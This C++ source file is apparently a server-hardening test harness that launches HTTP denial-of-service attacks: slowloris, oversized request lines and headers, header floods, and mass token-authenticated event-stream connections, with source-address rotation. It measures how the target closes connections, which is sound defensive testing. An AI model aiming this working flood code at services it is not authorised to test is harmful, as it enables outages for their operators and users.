#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <limits>
#include <memory>

#include "absl/strings/str_cat.h"
#include "http_wire.h"

namespace pulse::testing::attack {
namespace {

constexpr std::uint64_t kUnlimited = std::numeric_limits<std::uint64_t>::max();
constexpr std::size_t kBlockBytes = 64 * 1024;
constexpr std::size_t kStatusBytes = 16;  // enough of the answer for "HTTP/1.1 NNN"

// What one connection writes: prefix, then `filler` repeated for filler_bytes, then suffix.
struct Payload {
  std::string prefix;
  std::string filler;
  std::uint64_t filler_bytes = 0;
  std::string suffix;
  std::string block;  // filler repeated to at least kBlockBytes, whole units only

  std::uint64_t Total() const {
    if (filler_bytes == kUnlimited) {
      return kUnlimited;
    }
    return prefix.size() + filler_bytes + suffix.size();
  }

  // The next bytes to send from `offset` (empty when everything was sent).
  std::string_view At(std::uint64_t offset) const {
    if (offset < prefix.size()) {
      return std::string_view(prefix).substr(offset);
    }
    offset -= prefix.size();
    if (offset < filler_bytes) {
      const std::size_t pos = static_cast<std::size_t>(offset % filler.size());
      const std::uint64_t left = filler_bytes - offset;
      return std::string_view(block).substr(
          pos, static_cast<std::size_t>(std::min<std::uint64_t>(left, block.size() - pos)));
    }
    offset -= filler_bytes;
    return offset < suffix.size() ? std::string_view(suffix).substr(offset) : std::string_view();
  }
};

Payload MakePayload(std::string prefix, std::string filler, std::uint64_t filler_bytes,
                    std::string suffix) {
  Payload p{std::move(prefix), std::move(filler), filler_bytes, std::move(suffix), ""};
  if (!p.filler.empty()) {
    while (p.block.size() < kBlockBytes) {
      p.block += p.filler;
    }
  } else {
    p.filler_bytes = 0;
  }
  return p;
}

std::vector<Payload> PayloadsFor(const AttackOptions& o) {
  const std::string host = absl::StrCat(o.target.host, ":", o.target.port);
  const std::string head = absl::StrCat("GET /healthz HTTP/1.1\r\nHost: ", host, "\r\n");
  const auto minus = [](std::uint64_t total, std::size_t prefix) {
    return total > prefix ? total - prefix : 0;
  };
  switch (o.kind) {
    case AttackKind::kRequestLine:
      return {MakePayload("GET /", "a", minus(o.bytes_per_connection, 5), "")};
    case AttackKind::kHeaderValue: {
      std::string prefix = head + "X-Fill: ";
      const std::uint64_t filler = minus(o.bytes_per_connection, prefix.size());
      return {MakePayload(std::move(prefix), "a", filler, "")};
    }
    case AttackKind::kHeaderCount:
      return {MakePayload(head, "X-Hd: 1\r\n", o.header_lines * 9, "\r\n")};
    case AttackKind::kSlowloris:
      return {MakePayload(head, "X-Slow: 1\r\n", kUnlimited, "")};
    case AttackKind::kStreams: {
      std::vector<Payload> out;
      for (const std::string& token : o.tokens) {
        out.push_back(MakePayload(
            absl::StrCat("GET ", o.stream_path, " HTTP/1.1\r\nHost: ", host,
                         "\r\nX-API-Token: ", token, "\r\nAccept: text/event-stream\r\n\r\n"),
            "", 0, ""));
      }
      return out;
    }
  }
  return {};
}

struct StreamState {
  ResponseHeadReader head;
  ChunkedDecoder chunked;
  SseFrameReader sse;
  std::string body;       // decoded bytes of the current read
  bool answered = false;  // counted in answered_ (a status, a malformed head or a close)
  Clock::time_point first_frame{};
  Clock::time_point last_frame{};
};

enum class Phase { kWaiting, kConnecting, kOpen, kFinished };

struct Conn {
  int fd = -1;
  Phase phase = Phase::kWaiting;
  Clock::time_point due{};  // waiting: connect; connecting: give up; open and paced: next send
  Clock::time_point established{};
  std::uint64_t offset = 0;
  std::size_t payload = 0;
  std::size_t source = 0;
  bool writing = false;
  bool outlived = false;
  std::string answer;  // the first bytes the server sent
  std::unique_ptr<StreamState> stream;
};

class Attack {
 public:
  Attack(const AttackOptions& options, AttackProgress* progress)
      : o_(options), progress_(progress), payloads_(PayloadsFor(options)) {}
  ~Attack() {
    for (Conn& c : conns_) {
      if (c.fd >= 0) {
        ::close(c.fd);
      }
    }
    if (epoll_ >= 0) {
      ::close(epoll_);
    }
  }

  absl::StatusOr<AttackReport> Run();

 private:
  bool streams() const { return o_.kind == AttackKind::kStreams; }
  bool paced() const { return o_.kind == AttackKind::kSlowloris; }
  void StartConnect(std::size_t i, Clock::time_point now);
  void Established(std::size_t i, Clock::time_point now);
  void ConnectFailed(std::size_t i, Clock::time_point now);
  void Write(std::size_t i, std::uint64_t limit, Clock::time_point now);
  void Read(std::size_t i, Clock::time_point now);
  void OnStreamBytes(std::size_t i, std::string_view data, Clock::time_point now);
  // The connection ended: by the server (EOF, reset) or by us (a stream refused).
  void End(std::size_t i, Clock::time_point now, bool by_server);
  void SetWriting(Conn& c, bool on);
  void CountAnswer(const Conn& c);
  void Lived(Conn& c, Clock::time_point now);

  const AttackOptions& o_;
  AttackProgress* progress_;
  std::vector<Payload> payloads_;
  std::vector<sockaddr_in> sources_;
  sockaddr_in target_{};
  int epoll_ = -1;
  std::vector<Conn> conns_;
  int connecting_ = 0;
  std::int64_t answered_ = 0;  // streams with an answer or a failure
  bool holding_ = false;
  Clock::time_point start_{};
  Clock::time_point end_{};
  AttackReport report_;
  char buf_[64 * 1024];
};

absl::StatusOr<AttackReport> Attack::Run() {
  if (o_.target.port <= 0 || o_.connections <= 0) {
    return absl::InvalidArgumentError("a target port and at least one connection are needed");
  }
  if (streams() && o_.tokens.empty()) {
    return absl::InvalidArgumentError("the streams attack needs a token");
  }
  if (paced() && (o_.slow_bytes <= 0 || o_.slow_interval.count() <= 0)) {
    return absl::InvalidArgumentError("slowloris needs slow_bytes and slow_interval");
  }
  target_.sin_family = AF_INET;
  target_.sin_port = htons(static_cast<std::uint16_t>(o_.target.port));
  if (::inet_pton(AF_INET, o_.target.host.c_str(), &target_.sin_addr) != 1) {
    return absl::InvalidArgumentError(absl::StrCat("not an IPv4 address: ", o_.target.host));
  }
  for (const std::string& s : o_.sources) {
    if (s.empty()) {
      continue;
    }
    sockaddr_in a{};
    a.sin_family = AF_INET;
    if (::inet_pton(AF_INET, s.c_str(), &a.sin_addr) != 1) {
      return absl::InvalidArgumentError(absl::StrCat("not an IPv4 source address: ", s));
    }
    sources_.push_back(a);
  }
  if (o_.nice != 0) {
    // On Linux a thread id names one thread: only the attacking thread is lowered.
    if (o_.nice < -20 || o_.nice > 19 ||
        ::setpriority(PRIO_PROCESS, static_cast<id_t>(::gettid()), o_.nice) != 0) {
      return absl::InvalidArgumentError(absl::StrCat(
          "cannot set the attacking thread's nice value to ", o_.nice, ": ", std::strerror(errno)));
    }
  }
  if (o_.sched_idle) {
    // Linux's sched_setscheduler takes a thread id too: only the attacking thread moves.
    sched_param param{};
    param.sched_priority = 0;
    if (::sched_setscheduler(::gettid(), SCHED_IDLE, &param) != 0) {
      return absl::InvalidArgumentError(
          absl::StrCat("cannot run the attacking thread under SCHED_IDLE: ", std::strerror(errno)));
    }
  }
  epoll_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_ < 0) {
    return absl::InternalError(absl::StrCat("epoll_create1: ", std::strerror(errno)));
  }
  report_.kind = o_.kind;
  conns_.resize(static_cast<std::size_t>(o_.connections));
  start_ = Clock::now();
  end_ = streams() ? Clock::time_point::max() : start_ + o_.duration;
  for (std::size_t i = 0; i < conns_.size(); ++i) {
    conns_[i].due = start_;
    conns_[i].payload = i % payloads_.size();
    conns_[i].source = sources_.empty() ? 0 : i % sources_.size();
  }
  if (streams()) {
    report_.streams.resize(conns_.size());
  }
  std::vector<epoll_event> events(1024);
  while (true) {
    Clock::time_point now = Clock::now();
    if (o_.stop != nullptr && o_.stop->load()) {
      report_.stopped_early = true;
      break;
    }
    if (streams() && !holding_ &&
        (answered_ == static_cast<std::int64_t>(conns_.size()) ||
         now >= start_ + o_.ramp_timeout)) {
      holding_ = true;
      report_.ramp = std::chrono::duration_cast<Millis>(now - start_);
      end_ = now + o_.duration;
      if (progress_ != nullptr) {
        progress_->holding = true;
      }
    }
    if (now >= end_) {
      break;
    }
    for (std::size_t i = 0; i < conns_.size(); ++i) {
      Conn& c = conns_[i];
      if (c.phase == Phase::kWaiting && now >= c.due && connecting_ < o_.max_connecting) {
        StartConnect(i, now);
      } else if (c.phase == Phase::kConnecting && now >= c.due) {
        ConnectFailed(i, now);
      } else if (c.phase == Phase::kOpen) {
        if (paced() && now >= c.due) {
          Write(i, static_cast<std::uint64_t>(o_.slow_bytes), now);
          // Keep the pace; after a stall, resume it rather than send a burst.
          c.due = std::max(c.due + o_.slow_interval, now + o_.slow_interval / 2);
        }
        if (c.phase == Phase::kOpen && !c.outlived && now - c.established > o_.close_within) {
          c.outlived = true;
          ++report_.outlived;
        }
      }
    }
    const int n = ::epoll_wait(epoll_, events.data(), static_cast<int>(events.size()), 20);
    now = Clock::now();
    for (int k = 0; k < n; ++k) {
      const std::size_t i = static_cast<std::size_t>(events[static_cast<std::size_t>(k)].data.u64);
      const std::uint32_t ev = events[static_cast<std::size_t>(k)].events;
      Conn& c = conns_[i];
      if (c.phase == Phase::kConnecting) {
        int err = 0;
        socklen_t len = sizeof(err);
        ::getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0 || (ev & (EPOLLERR | EPOLLHUP)) != 0) {
          ConnectFailed(i, now);
        } else {
          Established(i, now);
        }
        continue;
      }
      if (c.phase != Phase::kOpen) {
        continue;
      }
      if ((ev & (EPOLLIN | EPOLLHUP | EPOLLERR)) != 0) {
        Read(i, now);
      }
      if (c.phase == Phase::kOpen && (ev & EPOLLOUT) != 0 && c.writing) {
        Write(i, kUnlimited, now);
      }
    }
  }
  const Clock::time_point now = Clock::now();
  report_.elapsed = std::chrono::duration_cast<Millis>(now - start_);
  for (std::size_t i = 0; i < conns_.size(); ++i) {
    Conn& c = conns_[i];
    if (c.phase == Phase::kOpen) {
      ++report_.open_at_end;
      Lived(c, now);
      CountAnswer(c);
      if (streams() && c.stream != nullptr && report_.streams[i].ready) {
        StreamRecord& r = report_.streams[i];
        r.held = std::chrono::duration_cast<Millis>(now - c.stream->first_frame);
        r.max_silence =
            std::max(r.max_silence, std::chrono::duration_cast<Millis>(now - c.stream->last_frame));
      }
    }
    if (c.fd >= 0) {
      ::close(c.fd);
      c.fd = -1;
    }
  }
  if (streams() && !holding_) {
    report_.ramp = report_.elapsed;
  }
  return std::move(report_);
}

void Attack::SetWriting(Conn& c, bool on) {
  if (c.writing == on) {
    return;
  }
  c.writing = on;
  epoll_event ev{};
  ev.events = EPOLLIN | (on ? EPOLLOUT : 0u);
  ev.data.u64 = static_cast<std::uint64_t>(&c - conns_.data());
  ::epoll_ctl(epoll_, EPOLL_CTL_MOD, c.fd, &ev);
}

void Attack::StartConnect(std::size_t i, Clock::time_point now) {
  Conn& c = conns_[i];
  const std::size_t payload = c.payload;
  const std::size_t source = c.source;
  c = Conn{};
  c.payload = payload;
  c.source = source;
  c.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (c.fd < 0) {
    ConnectFailed(i, now);
    return;
  }
  if (!sources_.empty()) {
    int yes = 1;
    ::setsockopt(c.fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &yes, sizeof(yes));
    const sockaddr_in& src = sources_[c.source];
    if (::bind(c.fd, reinterpret_cast<const sockaddr*>(&src), sizeof(src)) != 0) {
      ConnectFailed(i, now);
      return;
    }
  }
  const int rc = ::connect(c.fd, reinterpret_cast<const sockaddr*>(&target_), sizeof(target_));
  if (rc != 0 && errno != EINPROGRESS) {
    ConnectFailed(i, now);
    return;
  }
  epoll_event ev{};
  ev.events = EPOLLOUT | EPOLLIN;
  ev.data.u64 = i;
  ::epoll_ctl(epoll_, EPOLL_CTL_ADD, c.fd, &ev);
  c.writing = true;
  c.phase = Phase::kConnecting;
  c.due = now + o_.connect_timeout;
  ++connecting_;
}

void Attack::ConnectFailed(std::size_t i, Clock::time_point now) {
  Conn& c = conns_[i];
  if (c.phase == Phase::kConnecting) {
    --connecting_;
  }
  if (c.fd >= 0) {
    ::close(c.fd);
    c.fd = -1;
  }
  ++report_.connect_failed;
  if (streams()) {
    c.phase = Phase::kFinished;
    ++answered_;
    if (progress_ != nullptr) {
      ++progress_->streams_answered;
    }
  } else {
    c.phase = Phase::kWaiting;
    c.due = now + o_.reconnect_delay;
  }
}

void Attack::Established(std::size_t i, Clock::time_point now) {
  Conn& c = conns_[i];
  --connecting_;
  c.phase = Phase::kOpen;
  c.established = now;
  ++report_.opened;
  if (progress_ != nullptr) {
    ++progress_->open;
  }
  if (streams()) {
    c.stream = std::make_unique<StreamState>();
  }
  if (paced()) {
    SetWriting(c, false);
    c.due = now;  // the first bytes go out on the next tick
  } else {
    Write(i, kUnlimited, now);
  }
}

void Attack::Write(std::size_t i, std::uint64_t limit, Clock::time_point now) {
  Conn& c = conns_[i];
  const Payload& p = payloads_[c.payload];
  std::uint64_t budget = limit;
  while (budget > 0) {
    std::string_view next = p.At(c.offset);
    if (next.empty()) {
      SetWriting(c, false);
      return;
    }
    next = next.substr(0, static_cast<std::size_t>(std::min<std::uint64_t>(budget, next.size())));
    const ssize_t n = ::send(c.fd, next.data(), next.size(), MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) {
        continue;
      }
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        if (!paced()) {
          SetWriting(c, true);
        }
        return;
      }
      // EPIPE, ECONNRESET: the server closed it. Read what it answered first, if anything.
      Read(i, now);
      if (c.phase == Phase::kOpen) {
        End(i, now, /*by_server=*/true);
      }
      return;
    }
    c.offset += static_cast<std::uint64_t>(n);
    report_.bytes_sent += static_cast<std::uint64_t>(n);
    budget -= static_cast<std::uint64_t>(n);
  }
  if (!paced()) {
    SetWriting(c, !p.At(c.offset).empty());
  }
}

void Attack::Read(std::size_t i, Clock::time_point now) {
  Conn& c = conns_[i];
  while (c.phase == Phase::kOpen) {
    const ssize_t n = ::recv(c.fd, buf_, sizeof(buf_), 0);
    if (n > 0) {
      report_.bytes_received += static_cast<std::uint64_t>(n);
      const std::string_view data(buf_, static_cast<std::size_t>(n));
      if (c.answer.size() < kStatusBytes) {
        c.answer.append(data.substr(0, kStatusBytes - c.answer.size()));
      }
      if (streams()) {
        OnStreamBytes(i, data, now);
      }
      continue;
    }
    if (n < 0 && errno == EINTR) {
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      return;
    }
    End(i, now, /*by_server=*/true);  // EOF or reset
    return;
  }
}

void Attack::OnStreamBytes(std::size_t i, std::string_view data, Clock::time_point now) {
  Conn& c = conns_[i];
  StreamState& s = *c.stream;
  StreamRecord& r = report_.streams[i];
  if (s.head.state() == ResponseHeadReader::State::kReading) {
    data.remove_prefix(s.head.Feed(data));
    if (s.head.state() == ResponseHeadReader::State::kReading) {
      return;
    }
    r.status = s.head.status();
    s.answered = true;
    ++answered_;
    if (progress_ != nullptr) {
      ++progress_->streams_answered;
    }
    if (s.head.state() != ResponseHeadReader::State::kDone || r.status != 200) {
      End(i, now, /*by_server=*/false);  // refused: nothing to hold
      return;
    }
  }
  std::string_view body = data;
  if (s.head.chunked()) {
    s.body.clear();
    s.chunked.Feed(data, s.body);
    body = s.body;
  }
  s.sse.Feed(body, [&](const SseFrame& frame) {
    ++r.frames;
    if (frame.heartbeat()) {
      ++r.heartbeats;
    }
    if (!r.ready) {
      r.ready = true;
      s.first_frame = now;
      if (progress_ != nullptr) {
        ++progress_->streams_ready;
      }
    } else {
      r.max_silence =
          std::max(r.max_silence, std::chrono::duration_cast<Millis>(now - s.last_frame));
    }
    s.last_frame = now;
  });
}

void Attack::CountAnswer(const Conn& c) {
  const int status = StatusOf(c.answer);
  if (status != 0) {
    ++report_.statuses[status];
  }
}

void Attack::Lived(Conn& c, Clock::time_point now) {
  const Millis lived = std::chrono::duration_cast<Millis>(now - c.established);
  report_.longest_open = std::max(report_.longest_open, lived);
  if (!c.outlived && lived > o_.close_within) {
    c.outlived = true;
    ++report_.outlived;
  }
}

void Attack::End(std::size_t i, Clock::time_point now, bool by_server) {
  Conn& c = conns_[i];
  Lived(c, now);
  if (by_server) {
    ++report_.closed_by_server;
  }
  if (progress_ != nullptr) {
    --progress_->open;
  }
  ::close(c.fd);
  c.fd = -1;
  if (streams()) {
    StreamRecord& r = report_.streams[i];
    if (!c.stream->answered) {
      r.status = StatusOf(c.answer);
      ++answered_;  // closed before a complete head
      if (progress_ != nullptr) {
        ++progress_->streams_answered;
      }
    }
    if (r.status != 0) {
      ++report_.statuses[r.status];
    }
    r.ended_early = by_server;
    if (r.ready) {
      r.held = std::chrono::duration_cast<Millis>(now - c.stream->first_frame);
      r.max_silence =
          std::max(r.max_silence, std::chrono::duration_cast<Millis>(now - c.stream->last_frame));
    }
    c.stream.reset();
    c.phase = Phase::kFinished;
    return;
  }
  CountAnswer(c);
  c.phase = Phase::kWaiting;
  c.due = now + o_.reconnect_delay;
}

}  // namespace

absl::StatusOr<AttackReport> RunAttack(const AttackOptions& options, AttackProgress* progress) {
  auto attack = std::make_unique<Attack>(options, progress);  // its read buffer: on the heap
  return attack->Run();
}

}  // namespace pulse::testing::attack
